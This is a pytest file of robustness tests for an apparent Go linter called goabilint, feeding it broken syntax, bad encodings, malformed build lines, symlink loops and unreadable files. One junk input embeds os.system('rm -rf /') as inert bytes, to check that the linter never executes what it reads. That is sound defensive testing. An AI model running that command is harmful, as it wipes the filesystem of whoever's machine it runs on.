"""Never crash, never lose a result, never run what it reads (issue #8).

One section per bullet of the issue: bad input, the filesystem, faults inside
goabilint, security. Every test writes real files into a temporary directory,
and most scenarios keep a *control* file next to the bad one: its known
LNK001 finding must come out whatever happens to its neighbours, since a lost
result is as much a failure as a crash.

Tests that need an unreadable file drop root's privileges in a child process
(root reads a mode-000 file anyway); under another user they chmod directly.
"""

from __future__ import annotations

import errno
import json
import os
import pathlib
import shutil
import signal
import subprocess
import sys
import tempfile
import textwrap
import time
from pathlib import Path
from urllib.parse import unquote_to_bytes

import pytest
import tree_sitter
import tree_sitter_go
from workspace import LINKNAME_LINE, LINKNAME_WITHOUT_UNSAFE, run_main, write_tree

from goabilint import engine, plugins
from goabilint.cli import write_atomically
from goabilint.engine import RunResult
from goabilint.hookspecs import hookimpl
from goabilint.outputs import render_json, render_sarif
from goabilint.plugins import load_registry
from goabilint.rule import DOC_SECTIONS, Rule, Severity
from goabilint.source import AsmFile, GoFile
from goabilint.suppress import MetaRules

PARTIAL = "syntax not understood in parts of the file"
CONTROL = {"control/ok.go": LINKNAME_WITHOUT_UNSAFE}
CONTROL_FINDING = ("LNK001", "control/ok.go", LINKNAME_LINE)

LAY_SOURCE = """\
package p

import "reflect"

var h reflect.SliceHeader
"""


# Helpers


def analyse(*paths: str, extra=(), select=("ALL",), **overrides) -> RunResult:
    """Run the engine from the working directory with every rule selected."""
    registry = load_registry(extra_plugins=[MetaRules(), *extra])
    args = {"isolated": True, "overrides": {"select": select, **overrides}}
    return engine.run(list(paths) or ["."], args, registry)


def write_bytes(root: Path, files: dict[str, bytes | str]) -> None:
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode() if isinstance(data, str) else data)


def errors(result: RunResult) -> list[str]:
    return [
        f"{n.path}: {n.message}" for n in result.notifications if n.level == "error"
    ]


def partial(result: RunResult) -> list[str]:
    return [n.path for n in result.notifications if n.message.startswith(PARTIAL)]


def keys(result: RunResult) -> set[tuple[str, str, int]]:
    return {(f.code, f.location.path, f.location.line) for f in result.findings}


def assert_inside(result: RunResult, root: Path) -> None:
    """Every finding points at lines and columns that exist in its file."""
    for f in result.findings:
        loc = f.location
        lines = (root / loc.path).read_bytes().split(b"\n")
        assert 1 <= loc.line <= loc.end_line <= len(lines), loc
        assert 1 <= loc.column <= len(lines[loc.line - 1]) + 1, loc
        assert 1 <= loc.end_column <= len(lines[loc.end_line - 1]) + 1, loc
        assert loc.line < loc.end_line or loc.column <= loc.end_column, loc


def as_sarif(result: RunResult) -> dict:
    return json.loads(render_sarif(result))


def _doc() -> str:
    return "\n\n".join(f"## {s}\nNone." for s in DOC_SECTIONS)


def make_rule(code: str, name: str, **checks) -> Rule:
    return Rule(
        code=code,
        name=name,
        title="a rule of the robustness tests",
        severity=Severity.WARNING,
        since="0.0.0",
        doc=_doc(),
        **checks,
    )


class RulesPlugin:
    """Registers throwaway rules, as an installed plugin would."""

    def __init__(self, *rules: Rule, name: str = "test[robustness]"):
        self.rules = rules
        self.plugin_name = name

    @hookimpl
    def goabilint_rules(self):
        return list(self.rules)


def _report_every_node(file: GoFile, report) -> None:
    stack = [file.root]
    while stack:
        node = stack.pop()
        report(node, f"node {node.type}")
        stack.extend(node.children)


def _report_every_text(file: AsmFile, report) -> None:
    for t in file.texts:
        report.at_line(t.line, f"TEXT {t.symbol}")


EVERY_NODE = make_rule("TST001", "every-node", check_go=_report_every_node)
EVERY_TEXT = make_rule("TST002", "every-text", check_asm=_report_every_text)


@pytest.fixture
def tree(tmp_path, monkeypatch):
    """An empty directory, made the working directory, holding the control."""
    monkeypatch.chdir(tmp_path)
    write_tree(tmp_path, CONTROL)
    return tmp_path


# Bad input

BROKEN = """\
package broken

import "reflect"

//go:linkname nanotime runtime.nanotime
func nanotime() int64

var good reflect.SliceHeader

func stray() { x := ) reflect.SliceHeader{} }

func between() reflect.StringHeader { return reflect.StringHeader{} }

var unterminated = "abc

type T struct { a reflect.SliceHeader; b ]]] }

func after() reflect.StringHeader { return reflect.StringHeader{} }

func missingBrace() {
\tvar h reflect.SliceHeader
\tif h.Len > 0 {
\t\t_ = h
}
"""


def _broken_nodes(data: bytes) -> tuple[list[tuple[int, int]], list[int]]:
    """ERROR node ranges and MISSING node positions, found independently."""
    parser = tree_sitter.Parser(tree_sitter.Language(tree_sitter_go.language()))
    stack = [parser.parse(data).root_node]
    errors_, missing = [], []
    while stack:
        n = stack.pop()
        if n.type == "ERROR":
            errors_.append((n.start_byte, n.end_byte))
        if n.is_missing:
            missing.append(n.start_byte)
        stack.extend(n.children)
    return errors_, missing


def _offsets(data: bytes, loc) -> tuple[int, int]:
    """Byte offsets of a location's start and end, counted independently."""
    starts = [0] + [i + 1 for i, b in enumerate(data) if b == 0x0A]
    start = starts[loc.line - 1] + loc.column - 1
    return start, starts[loc.end_line - 1] + loc.end_column - 1


def test_nothing_is_reported_from_broken_subtrees(tree):
    write_tree(tree, {"broken/b.go": BROKEN})
    data = (tree / "broken/b.go").read_bytes()
    error_ranges, missing = _broken_nodes(data)
    assert error_ranges and missing  # the sample has both kinds

    result = analyse(extra=[RulesPlugin(EVERY_NODE)])

    nodes = [
        f
        for f in result.findings
        if f.code == "TST001" and f.location.path == "broken/b.go"
    ]
    assert len(nodes) > 40  # the intact parts are still checked
    for f in nodes:
        start, end = _offsets(data, f.location)
        for es, ee in error_ranges:
            assert not (start < ee and es < max(end, start + 1)), (f, (es, ee))
        for pos in missing:
            assert not (start < pos < end), (f, pos)
    lay = [f for f in result.findings if f.code == "LAY002"]
    assert {8, 12} <= {f.location.line for f in lay}  # intact declarations
    for f in lay:
        assert data[_offsets(data, f.location)[0] :].startswith(b"reflect.S"), f
    assert ("LNK001", "broken/b.go", 5) in keys(result)
    assert CONTROL_FINDING in keys(result)
    assert not errors(result)


def test_partially_analysed_file_is_reported_once(tree):
    # Many rules parse it, a suppression comment is read from it, and a
    # package-level rule sees it: still one notice.
    write_tree(
        tree,
        {
            "broken/b.go": BROKEN + "//goabilint:ignore LNK001 reason\n",
            "broken/c.go": LAY_SOURCE.replace("package p", "package broken"),
        },
    )
    package_rule = make_rule(
        "TST003",
        "package-reader",
        check_package=lambda pkg, report: [f.root for f in pkg.go_files],
    )

    result = analyse(extra=[RulesPlugin(EVERY_NODE, package_rule)])

    assert partial(result) == ["broken/b.go"]
    assert [n.level for n in result.notifications if n.path == "broken/b.go"] == [
        "warning"
    ]


INVALID_UTF8 = {
    "comment": b"// caf\xe9 \xff\xfe\n" + LAY_SOURCE.encode(),
    "string": LAY_SOURCE.encode() + b'var s = "\xff\xfe\xc3"\n',
    "identifier": LAY_SOURCE.encode() + b"var \xff\xfe = 1\n",
    "same line": LAY_SOURCE.encode().replace(b"var h", b"/*\xff\xc3*/ var h"),
    "truncated": LAY_SOURCE.encode() + b"// \xe4\xb8",
}


@pytest.mark.parametrize("where", INVALID_UTF8, ids=list(INVALID_UTF8))
def test_invalid_utf8(tree, where):
    write_bytes(tree, {"bad/a.go": INVALID_UTF8[where]})

    result = analyse()

    assert not errors(result)
    lay = [f for f in result.findings if f.code == "LAY002"]
    data = (tree / "bad/a.go").read_bytes()
    line = data[: data.index(b"reflect.SliceHeader")].count(b"\n") + 1
    assert [f.location.line for f in lay] == [line]
    start, _ = _offsets(data, lay[0].location)
    assert data[start:].startswith(b"reflect.SliceHeader")
    assert CONTROL_FINDING in keys(result)
    assert_inside(result, tree)
    for render in (render_json, render_sarif):
        json.loads(render(result))  # every format can carry the result


@pytest.mark.parametrize("name", ["a.go", "a.s"])
def test_suppression_comment_with_invalid_utf8(tree, name):
    # The unused suppression is reported on its comment, which ends where
    # its line does, counted in bytes of the file, not of the decoded text.
    comment = b"//goabilint:ignore LNK001 caf\xe9 \xff\xfe"
    code = b"package p\n\n" if name == "a.go" else b"TEXT \xc2\xb7f(SB), $0\n"
    write_bytes(tree, {f"sup/{name}": code + comment + b"\r\n"})

    result = analyse()

    (f,) = [f for f in result.findings if f.location.path == f"sup/{name}"]
    assert f.code == "SUP002"
    line = code.count(b"\n") + 1
    assert (f.location.line, f.location.column) == (line, 1)
    shown = comment.decode("utf-8", "replace")  # each bad byte one U+FFFD
    assert f.location.end_column == len(comment) + 1
    assert f.location.end_column_utf16 == len(shown) + 1


def _fixture_dirs() -> list[Path]:
    repo = Path(__file__).resolve().parent.parent
    return sorted(p for p in (repo / "testdata").iterdir() if p.is_dir()) + [
        repo / "examples"
    ]


def _copy_converted(src: Path, dst: Path, convert) -> None:
    for f in src.rglob("*"):
        if f.is_file():
            target = dst / f.relative_to(src)
            target.parent.mkdir(parents=True, exist_ok=True)
            data = f.read_bytes()
            target.write_bytes(convert(data) if f.suffix in (".go", ".s") else data)


def _located(result: RunResult) -> list[tuple]:
    return sorted((f.code, f.location, f.message, f.fix) for f in result.findings)


def test_crlf_gives_the_same_findings_as_lf(tmp_path, monkeypatch):
    # Every fixture and the example module, with every line ending in CRLF:
    # the same findings at the same lines and columns (Go ignores the \r).
    for src in _fixture_dirs():
        lf, crlf = tmp_path / "lf" / src.name, tmp_path / "crlf" / src.name
        _copy_converted(src, lf, lambda d: d)
        _copy_converted(src, crlf, lambda d: d.replace(b"\n", b"\r\n"))
    monkeypatch.chdir(tmp_path / "lf")
    expected = _located(analyse())
    monkeypatch.chdir(tmp_path / "crlf")
    result = analyse()

    assert _located(result) == expected
    assert len(expected) > 100
    assert not errors(result)


def test_bom_changes_only_line_one_columns(tmp_path, monkeypatch):
    # Go accepts a leading BOM and counts its three bytes in line 1's
    # columns (go/token does); build constraints behind it still apply.
    for src in _fixture_dirs():
        _copy_converted(src, tmp_path / "plain" / src.name, lambda d: d)
        _copy_converted(src, tmp_path / "bom" / src.name, lambda d: b"\xef\xbb\xbf" + d)
    monkeypatch.chdir(tmp_path / "plain")
    plain = analyse()
    monkeypatch.chdir(tmp_path / "bom")
    bom = analyse()

    def key(f, bom: int):
        loc = f.location
        col = loc.column - bom if loc.line == 1 else loc.column
        end = loc.end_column - bom if loc.end_line == 1 else loc.end_column
        return (f.code, loc.path, loc.line, col, loc.end_line, end, f.message)

    assert sorted(key(f, 3) for f in bom.findings) == sorted(
        key(f, 0) for f in plain.findings
    )
    assert sorted(partial(bom)) == sorted(partial(plain))  # the BOM is no syntax error
    assert not errors(bom)


def test_bom_on_line_one(tree):
    write_bytes(
        tree, {"bom/a.go": b"\xef\xbb\xbf//go:linkname x runtime.x\npackage p\n"}
    )

    result = analyse(select=("LNK001",))

    (f,) = [f for f in result.findings if f.location.path == "bom/a.go"]
    assert (f.location.line, f.location.column) == (1, 4)  # byte columns count the BOM
    assert f.location.column_utf16 == 2  # U+FEFF is one UTF-16 unit
    assert not partial(result)


def test_lone_cr_does_not_end_a_line(tree):
    # For Go only \n ends a line: a lone \r does not end a line comment, so
    # the first declaration below is commented out, and it does not count
    # as a line.
    source = (
        LAY_SOURCE.replace("var h", "// note\rvar h") + "var g reflect.SliceHeader\n"
    )
    write_bytes(tree, {"cr/a.go": source, "cr/all.go": LAY_SOURCE.replace("\n", "\r")})

    result = analyse()

    found = [(f.code, f.location.line, f.location.column) for f in result.findings]
    assert [k for k in found if k[0] == "LAY002"] == [("LAY002", 6, 7)]
    assert partial(result) == ["cr/all.go"]  # "package p import": Go rejects it too
    assert not errors(result)
    assert CONTROL_FINDING in keys(result)
    assert_inside(result, tree)


def test_nul_bytes(tree):
    source = LAY_SOURCE + "func f() { x := 1\x00; _ = x }\n" + "var \x00 = 2\n"
    write_bytes(tree, {"nul/a.go": source})

    result = analyse()

    assert partial(result) == ["nul/a.go"]  # Go rejects NUL too
    assert ("LAY002", "nul/a.go", 5) in keys(result)
    assert CONTROL_FINDING in keys(result)
    assert not errors(result)


def test_very_long_line_keeps_columns(tree):
    # 2 MB of two-byte characters, then a finding on the same line.
    n = 1_000_000
    line = 'var s = "' + "é" * n + '"; var h reflect.SliceHeader'
    write_tree(
        tree, {"long/a.go": LAY_SOURCE.replace("var h reflect.SliceHeader", line)}
    )
    started = time.monotonic()

    result = analyse()

    assert time.monotonic() - started < 30
    (f,) = [f for f in result.findings if f.code == "LAY002"]
    prefix = len('var s = "') + len('"; var h ')
    assert (f.location.line, f.location.column) == (5, prefix + 2 * n + 1)
    assert f.location.column_utf16 == prefix + n + 1
    assert not errors(result)


def test_file_over_max_file_size_is_skipped_with_a_notice(tree):
    write_tree(
        tree,
        {
            "size/big.go": LINKNAME_WITHOUT_UNSAFE + "// " + "x" * 5000 + "\n",
            "size/exact.go": LINKNAME_WITHOUT_UNSAFE,
        },
    )
    limit = (tree / "size/exact.go").stat().st_size
    big = (tree / "size/big.go").stat().st_size

    result = analyse(max_file_size=limit)

    notes = [n for n in result.notifications if n.path == "size/big.go"]
    assert [(n.level, n.message) for n in notes] == [
        ("warning", f"{big} bytes is over max-file-size ({limit}); skipped")
    ]
    assert {("LNK001", "size/exact.go", LINKNAME_LINE), CONTROL_FINDING} <= keys(result)
    assert not any(f.location.path == "size/big.go" for f in result.findings)
    assert result.files == 2


def test_max_file_size_from_the_command_line(tree, capsys):
    write_tree(
        tree, {"size/big.go": LINKNAME_WITHOUT_UNSAFE + "// " + "x" * 5000 + "\n"}
    )

    run = run_main(
        capsys, "--no-cache", "--format", "json", "--max-file-size", "1000", "."
    )

    doc = run.json()
    assert [f["path"] for f in doc["findings"]] == ["control/ok.go"]
    assert [e["path"] for e in doc["errors"]] == ["size/big.go"]
    assert "over max-file-size (1000); skipped" in run.err
    assert run.code == 1  # a skipped file is a warning, not an internal error


DEPTH = 10_000
HEADER = """\
package p

import (
\t"context"
\t"net/http"
\t"reflect"
)

"""
# prefix, opening (repeated), innermost, closing (repeated), suffix
NESTED = {
    "parens": ("var v = context.WithValue(nil, ", "(", '"k"', ")", ", 1)"),
    "unary": ("var v = context.WithValue(nil, ", "- ", "1", "", ", 1)"),
    "binary": ("var v = context.WithValue(nil, ", "1+", "1", "", ", 1)"),
    "constant": (
        "const k = ",
        '"a"+',
        '"a"',
        "",
        "\nvar v = context.WithValue(nil, k, 1)",
    ),
    "calls": ("var v = context.WithValue(nil, ", "f(", "1", ")", ", 1)"),
    "selectors": ("var v = context.WithValue(nil, a", ".b", "", "", ", 1)"),
    "index": ("var v = ", "a[", "1", "]", ""),
    "composite": ("var v = []reflect.SliceHeader{", "{", "", "}", "}"),
    "slice types": ("var v ", "[]", "reflect.SliceHeader", "", ""),
    "pointers": ("var v ", "*", "reflect.SliceHeader", "", ""),
    "structs": ("var v ", "struct{ f ", "reflect.SliceHeader", "}", ""),
    "blocks": ("func f(r *http.Request) {\n", "{", "r.WithContext(nil)", "}", "}"),
    "ifs": ("func f(r *http.Request) {\n", "if true {", "r.WithContext(nil)", "}", "}"),
    "closures": (
        "func f(r *http.Request) {\n",
        "func() {",
        "r.WithContext(nil)",
        "}()",
        "}",
    ),
}


def nested(shape: str) -> str:
    prefix, opening, inner, closing, suffix = NESTED[shape]
    return prefix + opening * DEPTH + inner + closing * DEPTH + suffix + "\n"


@pytest.mark.parametrize("shape", NESTED, ids=list(NESTED))
def test_deeply_nested_code(tree, shape):
    # go/parser accepts 100000 levels; 10000 is far past Python's recursion
    # limit and past what a parent-by-parent walk up the tree can afford.
    write_tree(tree, {"deep/a.go": HEADER + nested(shape)})
    started = time.monotonic()

    result = analyse()

    assert time.monotonic() - started < 20
    assert not errors(result)
    assert CONTROL_FINDING in keys(result)
    assert_inside(result, tree)


def test_deep_nesting_findings_are_still_found(tree):
    write_tree(tree, {"deep/a.go": HEADER + nested("closures") + nested("structs")})

    result = analyse()

    codes = {f.code for f in result.findings if f.location.path == "deep/a.go"}
    assert {"HTTP005", "LAY002"} <= codes


EMPTYISH = {
    "empty.go": b"",
    "newline.go": b"\n",
    "blank.go": b" \t\r\n\n   ",
    "bom.go": b"\xef\xbb\xbf",
    "comment.go": b"// only a comment",
    "block.go": b"/* unterminated",
    "package.go": b"package p",
    "empty.s": b"",
    "comment.s": b"// nothing\n",
}


def test_empty_and_nearly_empty_files(tree):
    write_bytes(tree, {f"empty/{name}": data for name, data in EMPTYISH.items()})

    result = analyse(extra=[RulesPlugin(EVERY_NODE, EVERY_TEXT)])

    assert not errors(result)
    assert result.files == len(EMPTYISH) + 1
    assert CONTROL_FINDING in keys(result)
    assert_inside(result, tree)


NOT_GO = {
    "png.go": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 20,
    "elf.go": b"\x7fELF\x02\x01\x01"
    + bytes(200)
    + b"go:linkname WithValue SliceHeader",
    "python.go": b"import os\n\ndef f():\n    return os.system('rm -rf /')  # go:\n",
    "json.go": b'{"package": "p", "import": ["unsafe"], "go:build": [1, 2, {"a": null}]}',
    "utf16.go": "\ufeffpackage p\n//go:linkname x y\n".encode("utf-16"),
    "token.go": b"package p\nvar " + b"x" * 500_000 + b" = 1\n",
    "html.go": b"<!DOCTYPE html><html><body>//go:linkname a b</body></html>",
    "mixed.go": bytes((i * 7919) % 256 for i in range(20_000)) + b"WithContext Clone",
}


def test_files_that_are_not_go(tree):
    write_bytes(tree, {f"junk/{name}": data for name, data in NOT_GO.items()})

    result = analyse(extra=[RulesPlugin(EVERY_NODE)])

    assert not errors(result)
    reported = partial(result)
    assert len(reported) == len(set(reported))
    assert "junk/png.go" in reported  # parsed (every-node reads every file)
    assert CONTROL_FINDING in keys(result)
    assert_inside(result, tree)


MALFORMED_BUILD = [
    "//go:build",
    "//go:build linux &&",
    "//go:build (linux",
    "//go:build linux)",
    "//go:build !!linux",
    "//go:build linux || ",
    "//go:build linux,amd64",
    "//go:build ☃",
    "//go:build linux // why",
    "//go:build " + " || ".join(["linux"] * 1001),
    "//go:build " + "(" * 5000 + "linux" + ")" * 5000,
    "//go:build " + "!" * 5000 + "linux",
    "//go:build \udcff\udcfe",  # bytes that are not UTF-8
]


@pytest.mark.parametrize("line", MALFORMED_BUILD, ids=range(len(MALFORMED_BUILD)))
def test_malformed_build_line(tree, line):
    source = line + "\n\n" + LINKNAME_WITHOUT_UNSAFE
    write_bytes(tree, {"tags/a.go": source.encode("utf-8", "surrogateescape")})

    result = analyse()

    notes = [n for n in result.notifications if n.path == "tags/a.go"]
    assert len(notes) == 1
    assert notes[0].level == "warning"
    assert notes[0].message.startswith("line 1: malformed build constraint (")
    # Treated as always built, so the file's own finding still comes out.
    assert ("LNK001", "tags/a.go", LINKNAME_LINE + 2) in keys(result)
    assert CONTROL_FINDING in keys(result)


# The go command on its own: no toolchain download, no module fetch.
OFFLINE_GO = {"GOTOOLCHAIN": "local", "GOFLAGS": "-mod=mod", "GOPROXY": "off"}

VALID_BUILD = [
    "//go:build !(!linux)",
    "//go:build linux && !windows",
    "//go:build  linux\t&&\tamd64",
    "//go:build " + " || ".join(["linux"] * 1000),
    "//go:build " + "(" * 100 + "linux" + ")" * 100,
    "//go:build café || ÿþ",
]


@pytest.mark.toolchain
def test_build_lines_judged_as_the_go_command_does(tmp_path):
    # Each line in a package of its own; `go list -e` says which the go
    # command rejects. goabilint must warn about exactly those.
    lines = MALFORMED_BUILD + VALID_BUILD
    write_tree(tmp_path, {"go.mod": "module m\n\ngo 1.22\n"})
    for i, line in enumerate(lines):
        source = line + "\n\npackage p\n"
        write_bytes(tmp_path, {f"p{i}/a.go": source.encode("utf-8", "surrogateescape")})
    out = subprocess.run(
        ["go", "list", "-e", "-f", "{{.Dir}}\t{{if .Error}}{{.Error}}{{end}}", "./..."],
        cwd=tmp_path,
        env={**os.environ, **OFFLINE_GO},
        capture_output=True,
        text=True,
        timeout=120,
    ).stdout
    go_rejects = {
        Path(d).name
        for d, err in (row.split("\t", 1) for row in out.splitlines())
        if "parsing //go:build line" in err
    }

    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        result = analyse()
    finally:
        os.chdir(cwd)
    we_reject = {
        n.path.split("/")[0]
        for n in result.notifications
        if "malformed build" in n.message
    }
    assert we_reject == go_rejects
    assert len(go_rejects) == len(MALFORMED_BUILD)


MALFORMED_GO_MOD = {
    "garbage": bytes((i * 131) % 256 for i in range(3000)),
    "invalid utf-8": b"module \xff\xfe\n\ngo 1.22\n",
    "bad go line": b"module m\n\ngo banana\n",
    "go line with four parts": b"module m\n\ngo 1.2.3.4\n",
    "crlf": b"module m\r\n\r\ngo 1.22\r\n",
    "nul": b"module m\x00\ngo 1\x00.22\n",
    "empty": b"",
    "only comments": b"// module m\n/* go 1.22 */\n",
    "unbalanced block": b"module m\nrequire (\n\tx v1\n",
    "huge line": b"module " + b"m" * 1_000_000 + b"\n",
}


@pytest.mark.parametrize("content", MALFORMED_GO_MOD, ids=list(MALFORMED_GO_MOD))
def test_malformed_go_mod(tree, content):
    write_bytes(
        tree,
        {
            "mod/go.mod": MALFORMED_GO_MOD[content],
            "mod/a/a.go": LINKNAME_WITHOUT_UNSAFE,
            "mod/b/b.go": LINKNAME_WITHOUT_UNSAFE,
        },
    )

    result = analyse()

    assert not errors(result)
    assert {("LNK001", f"mod/{p}/{p}.go", LINKNAME_LINE) for p in "ab"} <= keys(result)
    messages = [n.message for n in result.notifications]
    assert len(messages) == len(set(messages))  # a shared go.mod is reported once


def test_go_mod_that_is_a_directory(tree):
    (tree / "mod/go.mod").mkdir(parents=True)
    write_tree(tree, {"mod/a.go": LINKNAME_WITHOUT_UNSAFE})

    result = analyse()

    assert not errors(result)
    assert ("LNK001", "mod/a.go", LINKNAME_LINE) in keys(result)


MALFORMED_ASM = {
    "garbage": bytes((i * 97) % 256 for i in range(4000)),
    "bare TEXT": b"TEXT\nTEXT \nTEXT (SB)\nTEXT \xc2\xb7(SB),,,,\n",
    "invalid utf-8": b"TEXT \xff\xfe(SB), $0-8\n\tRET\n",
    "no frame": b'#include "textflag.h"\nTEXT \xc2\xb7f(SB), NOSPLIT, $\n',
    "form feed and lone cr": b"TEXT \xc2\xb7a(SB),$0\x0cTEXT \xc2\xb7b(SB),$0\r"
    b"TEXT \xc2\xb7c(SB),$0\nTEXT \xc2\xb7d(SB),$0\r\n",
    "unterminated comment": b"/* TEXT \xc2\xb7f(SB), $0\nTEXT \xc2\xb7g(SB), $0-8\n",
    "no final newline": b"TEXT \xc2\xb7f(SB), $0-8",
}


@pytest.mark.parametrize("content", MALFORMED_ASM, ids=list(MALFORMED_ASM))
def test_malformed_assembly(tree, content):
    data = MALFORMED_ASM[content]
    write_bytes(tree, {"asm/a.s": data, "asm/a.go": LINKNAME_WITHOUT_UNSAFE})

    result = analyse(extra=[RulesPlugin(EVERY_TEXT)])

    assert not errors(result)
    lines = data.split(b"\n")
    for f in result.findings:
        if f.code == "TST002":
            # Reported on the line that holds the TEXT, counting only \n.
            assert b"TEXT" in lines[f.location.line - 1], f
    assert ("LNK001", "asm/a.go", LINKNAME_LINE) in keys(result)
    assert_inside(result, tree)


def test_columns_with_tabs_and_multibyte_characters(tree):
    # Byte columns as the Go toolchain prints them (a tab is one byte), and
    # UTF-16 columns for SARIF: é is 2 bytes/1 unit, 世 3/1, 😀 4/2.
    lead = "\t/*é世😀*/\t"
    write_tree(tree, {"cols/a.go": LAY_SOURCE.replace("var h", lead + "var h")})

    result = analyse(select=("LAY002",))

    (f,) = [f for f in result.findings if f.location.path == "cols/a.go"]
    before = len(lead.encode()) + len("var h ")
    units = len(lead.encode("utf-16-le")) // 2 + len("var h ")
    span = len("reflect.SliceHeader")
    loc = f.location
    assert (loc.line, loc.column, loc.end_column) == (5, before + 1, before + 1 + span)
    assert (loc.column_utf16, loc.end_column_utf16) == (units + 1, units + 1 + span)
    sarif = as_sarif(result)["runs"][0]
    region = sarif["results"][0]["locations"][0]["physicalLocation"]["region"]
    assert (region["startColumn"], region["endColumn"]) == (units + 1, units + 1 + span)


@pytest.mark.toolchain
def test_columns_agree_with_go_vet(tmp_path):
    # go vet prints byte columns; our LineIndex must give the same position
    # for the same byte, with a BOM, tabs and multi-byte characters around.
    source = (
        '\ufeffpackage p; import "fmt"; func F() { fmt.Printf("%d", "x") }\n'
        'func G() {\n\t/*é世😀*/\tfmt.Printf("%d", "y")\n}\n'
    )
    write_tree(tmp_path, {"go.mod": "module m\n\ngo 1.22\n", "a.go": source})
    out = subprocess.run(
        ["go", "vet", "."],
        cwd=tmp_path,
        env={**os.environ, **OFFLINE_GO},
        capture_output=True,
        text=True,
        timeout=120,
    ).stderr
    vet = sorted(
        (int(line.split(":")[1]), int(line.split(":")[2]))
        for line in out.splitlines()
        if line.removeprefix("./").startswith("a.go:")
    )
    data = source.encode()
    gofile = GoFile(tmp_path / "a.go", "a.go", data)
    # vet points at the verb of the format string.
    ours = sorted(
        gofile.lines.position(i) for i in range(len(data)) if data.startswith(b"%d", i)
    )
    assert vet == ours and len(ours) == 2


# The filesystem


def test_symlink_loops(tree):
    write_tree(tree, {"pkg/a.go": LINKNAME_WITHOUT_UNSAFE})
    (tree / "pkg/up").symlink_to("..")
    (tree / "pkg/self").symlink_to("self")
    (tree / "pkg/b.go").symlink_to("c.go")
    (tree / "pkg/c.go").symlink_to("b.go")
    (tree / "pkg/d.go").symlink_to("d.go")

    result = analyse()

    assert keys(result) == {("LNK001", "pkg/a.go", LINKNAME_LINE), CONTROL_FINDING}
    assert result.files == 2  # nothing found twice through a loop
    assert not result.notifications


def test_named_symlink_loop_is_reported_and_the_rest_analysed(tree):
    (tree / "loop.go").symlink_to("loop.go")

    result = analyse("loop.go", "control")

    assert [n.level for n in result.notifications] == ["error"]
    assert "loop.go" in result.notifications[0].message
    assert keys(result) == {CONTROL_FINDING}


def test_symlinks_out_of_the_tree_are_not_followed(tmp_path, monkeypatch):
    write_tree(
        tmp_path,
        {
            "outside/o.go": LINKNAME_WITHOUT_UNSAFE,
            "tree/pkg/a.go": LINKNAME_WITHOUT_UNSAFE,
        },
    )
    (tmp_path / "tree/pkg/out").symlink_to(tmp_path / "outside")
    (tmp_path / "tree/pkg/o.go").symlink_to(tmp_path / "outside/o.go")
    (tmp_path / "tree/rel").symlink_to("../outside")
    monkeypatch.chdir(tmp_path / "tree")

    result = analyse()

    assert keys(result) == {("LNK001", "pkg/a.go", LINKNAME_LINE)}
    assert result.files == 1


def test_a_named_symlink_is_analysed(tmp_path, monkeypatch):
    write_tree(tmp_path, {"outside/o.go": LINKNAME_WITHOUT_UNSAFE, "tree/x": ""})
    (tmp_path / "tree/link.go").symlink_to(tmp_path / "outside/o.go")
    monkeypatch.chdir(tmp_path / "tree")

    result = analyse("link.go")

    assert keys(result) == {("LNK001", "link.go", LINKNAME_LINE)}


# Run in a child process with root's privileges dropped (when there are
# any), after everything it needs is loaded: the installation may sit in a
# directory that user cannot read.
UNPRIVILEGED_RUN = r"""
import os, sys
from goabilint import cache, engine, scheduler, syntax
from goabilint.outputs import render_json
from goabilint.plugins import load_registry
from goabilint.suppress import MetaRules

registry = load_registry(extra_plugins=[MetaRules()])
"".encode("utf-16-le")
syntax.parser()
if os.geteuid() == 0:
    os.setgroups([])
    os.setgid(65534)
    os.setuid(65534)
os.chdir(sys.argv[1])
result = engine.run(sys.argv[2:], {"isolated": True, "overrides": {"select": ("ALL",)}}, registry)
sys.stdout.write(render_json(result))
"""


@pytest.fixture
def shared_dir(tmp_path):
    """A directory an unprivileged user can enter (pytest's are root-only)."""
    if os.geteuid() != 0:
        yield tmp_path
        return
    d = Path(tempfile.mkdtemp(prefix="goabilint-perm-"))
    d.chmod(0o755)
    try:
        yield d
    finally:
        for p in [d, *d.rglob("*")]:
            if not p.is_symlink():
                p.chmod(0o755)
        shutil.rmtree(d)


def _run_unprivileged(cwd: Path, *paths: str) -> dict:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GOABILINT_")}
    proc = subprocess.run(
        [sys.executable, "-c", UNPRIVILEGED_RUN, str(cwd), *paths],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        cwd="/",
    )
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)


def test_unreadable_files_and_directories(shared_dir):
    files = {
        f"t/{d}/a.go": LINKNAME_WITHOUT_UNSAFE
        for d in ("ok", "open", "closed", "listonly", "listonly/sub", "noentry/sub")
    }
    files["t/ok/locked.go"] = LINKNAME_WITHOUT_UNSAFE
    write_tree(shared_dir, files)
    for p in [shared_dir / "t", *(shared_dir / "t").rglob("*")]:
        p.chmod(0o755 if p.is_dir() else 0o644)
    (shared_dir / "t/ok/locked.go").chmod(0o000)
    (shared_dir / "t/closed").chmod(0o000)  # neither listed nor entered
    (shared_dir / "t/listonly").chmod(0o444)  # listed, but nothing in it opened
    (shared_dir / "t/noentry").chmod(0o311)  # entered, not listed

    doc = _run_unprivileged(
        shared_dir, "t", "t/ok/locked.go", "t/noentry/sub/a.go", "t/closed/a.go"
    )

    assert [f["path"] for f in doc["findings"]] == [
        "t/noentry/sub/a.go",
        "t/ok/a.go",
        "t/open/a.go",
    ]
    errs = sorted(
        e["path"] or e["message"] for e in doc["errors"] if e["level"] == "error"
    )
    shown = "\n".join(errs)
    for unreadable in (
        "t/ok/locked.go",
        "t/listonly/a.go",
        "closed",
        "listonly/sub",
        "noentry",
    ):
        assert unreadable in shown
    assert "t/closed/a.go: Permission denied" in shown


def _fail_open_for(monkeypatch, victims: dict[str, int]) -> None:
    """Make opening the named files fail with the given errno, whether
    through Path.open or os.open (which the engine reads files with)."""
    real_open, real_os_open = pathlib.Path.open, os.open

    def fail(path) -> None:
        code = victims.get(os.path.basename(os.fspath(path)))
        if code is not None:
            raise OSError(code, os.strerror(code), os.fspath(path))

    def open_(self, *args, **kwargs):
        fail(self)
        return real_open(self, *args, **kwargs)

    def os_open(path, *args, **kwargs):
        fail(path)
        return real_os_open(path, *args, **kwargs)

    monkeypatch.setattr(pathlib.Path, "open", open_)
